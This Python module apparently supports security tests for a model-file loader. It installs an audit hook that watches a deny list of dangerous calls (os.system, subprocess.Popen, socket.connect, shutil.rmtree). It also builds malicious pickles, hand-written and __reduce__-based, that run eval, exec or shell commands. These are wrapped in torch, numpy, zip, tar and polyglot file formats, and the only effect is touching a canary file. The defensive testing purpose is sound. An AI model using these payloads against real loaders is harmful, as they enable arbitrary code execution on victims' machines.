"""An eye on what the interpreter does while it reads hostile files, and files that would make it do something."""

import gzip
import io
import json
import pickle
import struct
import sys
import tarfile
import zipfile
from contextlib import contextmanager

import numpy as np
import torch

FORBIDDEN = {
    *("os.system", "os.exec", "os.fork", "os.forkpty", "os.posix_spawn", "os.spawn", "os.kill", "subprocess.Popen", "pty.spawn"),
    *("socket.connect", "socket.bind", "socket.getaddrinfo", "urllib.Request", "pickle.find_class", "shutil.rmtree", "webbrowser.open"),
}
"""Events of the interpreter that reading a file never causes."""
_seen, _on = [], [False]


def _hook(event, arguments):
    if _on[0] and event in FORBIDDEN:
        _seen.append((event, str(arguments)[:200]))


@contextmanager
def watched():
    """What the interpreter is asked for inside. (A hook of `sys.addaudithook` cannot be taken away again, only rest.)"""
    if not _on[0] and not getattr(sys, "_glasspose_hook", False):
        sys.addaudithook(_hook)
        sys._glasspose_hook = True
    _seen.clear()
    _on[0] = True
    try:
        yield _seen
    finally:
        _on[0] = False


class Call:
    """Unpickled, calls a function."""

    def __init__(self, function, *arguments):
        self.function, self.arguments = function, arguments

    def __reduce__(self):
        return self.function, self.arguments


def opcodes(canary):
    """Pickles written by hand, which need no class of this process."""
    touch = f"open({str(canary)!r}, 'w').close()"
    short = touch.encode()
    yield b"cbuiltins\neval\n(S" + repr(touch).encode() + b"\ntR."
    yield b"c__builtin__\neval\n(S" + repr(touch).encode() + b"\ntR."
    yield b"cos\nsystem\n(S'touch " + str(canary).encode() + b"'\ntR."
    yield b"(S'touch " + str(canary).encode() + b"'\nios\nsystem\n."
    yield b"(cos\nsystem\nS'touch " + str(canary).encode() + b"'\no."
    yield b"\x80\x02cbuiltins\nexec\nX" + struct.pack("<I", len(short)) + short + b"\x85R."
    yield b"\x80\x04\x8c\x08builtins\x8c\x04eval\x93\x8c" + bytes([len(short)]) + short + b"\x85R."
    yield b"\x80\x04cimportlib\nimport_module\n(S'antigravity'\ntR0" + b"cbuiltins\neval\n(S" + repr(touch).encode() + b"\ntR."
    yield b"\x80\x02csubprocess\nPopen\n(](S'touch'\nS" + repr(str(canary)).encode() + b"\netR."
    yield b"cbuiltins\ngetattr\n(c__builtin__\n__import__\n(S'os'\ntRS'mkdir'\ntR(S" + repr(str(canary)).encode() + b"\ntR."
    yield b"\x80\x02ctorch.storage\n_load_from_bytes\nU\x05hello\x85R."
    yield b"\x80\x02csocket\ncreate_connection\n(S'127.0.0.1'\nI9\n\x86tR."
    yield b"\x80\x02cshutil\nrmtree\nS" + repr(str(canary.parent / "nothing")).encode() + b"\n\x85R."
    yield b"\x80\x02ctorch.hub\nload\n(S'someone/model'\nS'evil'\ntR."
    yield b"\x80\x02cnumpy\nload\n(S'x.npy'\nNI01\ntR."


def payloads(canary):
    """(name, content) of pickles that would leave a file at `canary`, raw and in every wrapping that loaders open."""
    import os
    import subprocess

    calls = [Call(os.system, f"touch {canary}"), Call(eval, f"open({str(canary)!r}, 'w').close()"), Call(subprocess.Popen, ["touch", str(canary)])]
    raw = [pickle.dumps(call, protocol) for call in calls for protocol in range(6)]
    raw += opcodes(canary)
    for number, content in enumerate(raw):
        yield f"raw{number}", content
    first = raw[4]
    for name, modern in (("torch", True), ("torch-old", False)):
        for number, call in enumerate(calls):
            file = io.BytesIO()
            torch.save({"state_dict": call}, file, _use_new_zipfile_serialization=modern)
            yield f"{name}{number}", file.getvalue()
    file = io.BytesIO()
    np.save(file, np.array([calls[0]], object), allow_pickle=True)
    yield "npy", file.getvalue()
    file = io.BytesIO()
    np.savez(file, **{key: np.array([calls[1]], object) for key in ("image_id", "is_val", "bbox_cxcywh", "keypoints")})
    yield "npz", file.getvalue()
    yield "gzip", gzip.compress(first)
    inner = zipped({"data.pkl": first})
    yield "zip in zip", zipped({"archive/data.pkl": inner, "archive/version": b"3"})
    yield "module zip", zipped({"archive/data.pkl": first, "archive/code/__init__.py": b"import os", "archive/version": b"3"})
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as archive:
        member = tarfile.TarInfo("pickle")
        member.size = len(first)
        archive.addfile(member, io.BytesIO(first))
    yield "tar", file.getvalue()
    header = json.dumps({"__metadata__": {"format": "pt", "pickle": first.hex()}}).encode()
    yield "safetensors polyglot", struct.pack("<Q", len(header)) + header + first
    yield "hdf5 beginning", b"\x89HDF\r\n\x1a\n" + first
    yield "matlab beginning", b"MATLAB 5.0 MAT-file".ljust(124) + b"\x00\x01IM" + first
    yield "checkpoint", checkpoint(first)


def zipped(members):
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return file.getvalue()


def checkpoint(payload):
    import hashlib

    return hashlib.sha256(payload).hexdigest().encode() + b"\n" + payload
